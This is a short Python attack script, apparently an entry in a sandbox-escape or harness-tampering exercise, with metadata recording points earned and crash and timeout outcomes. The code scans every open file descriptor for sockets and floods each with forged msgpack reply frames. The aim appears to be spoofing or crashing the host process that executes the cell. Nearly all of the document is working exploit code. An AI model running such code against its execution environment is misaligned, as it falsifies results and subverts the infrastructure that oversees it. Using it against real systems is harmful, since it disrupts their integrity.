# /// attack
# title = "forged frames on every open descriptor, in a cell"
# earned = [3, 1]
# status = ["crashed", "timeout"]
# cell_seconds = 1
# ///
# %%
import os
import stat
import struct

import msgpack

tree = msgpack.packb(["list", [["list", ["value"]], 10.0]])
reply = struct.pack("<I", len(tree)) + tree
for descriptor in range(3, 1000):
    try:
        if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
            for number in range(1, 20):
                os.write(descriptor, struct.pack("<IcQ", len(reply), b"R", number) + reply)
    except OSError:
        pass
